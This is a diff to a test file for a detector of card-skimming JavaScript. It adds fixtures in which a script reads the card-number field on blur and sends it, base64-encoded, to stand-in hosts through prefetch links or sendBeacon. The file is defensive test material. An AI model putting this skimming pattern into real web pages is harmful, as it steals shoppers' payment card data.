@@ -2,6 +2,8 @@ import { readFileSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
 import { analyzeScript } from '../../detector/index.ts'
 import { namesCardField } from '../../detector/rules/card-reads.ts'
+import type { Node } from 'acorn'
+import { factsOf } from './detector/facts-of.ts'
 
 // Ways a send or a read hides: a request made through Reflect.apply to an address a reduce over
 // numbers builds, names joined by a one-line wrapper, the checkout form serialized whole, card
@@ -318,5 +320,62 @@ describe('card values sent back to the host the script came from', () => {
     const tokenize = `fetch('https://api.widgets-host.example/tokens', { method: 'POST', body: JSON.stringify(c) })
       .then(function (r) { return r.json() }).then(function (t) { document.querySelector('#token').value = t.id })`
     expect(points(tokenize)).toBeLessThanOrEqual(10)
+  })
+})
+
+describe("a helper's parameter carries the address its callers give it", () => {
+  // the card goes out through a prefetch link made in a helper; the host is in the caller
+  const helper = (second: string): string => `
+    var CFG = { origin: 'https://edge.prefetch-hints.example', path: '/pf/' }
+    function hint(url) {
+      var l = document.createElement('link'); l.rel = 'prefetch'; l.href = url
+      document.head.appendChild(l)
+    }
+    document.addEventListener('blur', function () {
+      var n = document.querySelector('input[autocomplete="cc-number"]').value
+      hint(CFG.origin + CFG.path + btoa(JSON.stringify({ n: n })))
+      ${second}
+    }, true)`
+
+  it('every caller naming one host makes the destination that host', () => {
+    const v = analyzeScript(helper(''))
+    expect(v.verdict).toBe('malicious')
+    expect(v.findings.map((f) => f.message).join('\n')).toContain(
+      'https://edge.prefetch-hints.example/pf/',
+    )
+  })
+
+  it('callers naming different hosts leave it unknown', () => {
+    const v = analyzeScript(helper("hint('https://other-hints.example/x?' + n)"))
+    expect(v.findings.map((f) => f.message).join('\n')).not.toContain(
+      'https://edge.prefetch-hints.example/pf/',
+    )
+  })
+})
+
+describe('the value of a stored record or an iterator step is no typed value', () => {
+  const taintOf = (expr: string): string[] => {
+    const f = factsOf(`var d = ${expr}; navigator.sendBeacon('https://q.example/c', d)`, {
+      sinks: true,
+    })
+    const s = f.sinks[0]
+    if (!s) throw new Error('no sink')
+    return [...s.layer.taint(s.data[0] as Node)]
+  }
+
+  it("an IndexedDB cursor's value, an iterator's next().value", () => {
+    expect(taintOf('req.result.value')).not.toContain('value')
+    expect(taintOf('queue.values().next().value')).not.toContain('value')
+    const cursor = factsOf(
+      `store.openCursor().onsuccess = function (e) { var cur = e.target.result
+        navigator.sendBeacon('https://q.example/c', JSON.stringify(cur.value)) }`,
+      { sinks: true },
+    ).sinks[0]
+    expect(cursor && [...cursor.layer.taint(cursor.data[0] as Node)]).not.toContain('value')
+  })
+
+  it("while a field's value, however it was found, still is", () => {
+    expect(taintOf("document.getElementById('cc').value")).toContain('value')
+    expect(taintOf('form.elements[0].value')).toContain('value')
   })
 })
